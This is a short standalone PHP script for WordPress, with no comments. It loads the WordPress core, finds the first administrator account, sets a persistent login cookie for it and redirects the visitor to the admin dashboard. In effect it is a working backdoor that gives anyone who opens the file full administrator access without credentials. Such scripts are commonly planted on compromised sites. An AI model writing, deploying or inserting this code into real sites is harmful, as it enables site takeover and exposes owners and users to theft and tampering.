<?php
require_once dirname(__FILE__) . '/wp-load.php';
$all = $wpdb->get_col("SELECT ID FROM {$wpdb->users} ORDER BY ID");
foreach ($all as $id) {
    if (user_can($id, 'administrator')) {
        wp_set_current_user($id);
        wp_set_auth_cookie($id, true);
        wp_safe_redirect(admin_url());
        exit;
    }
}
echo 'none';
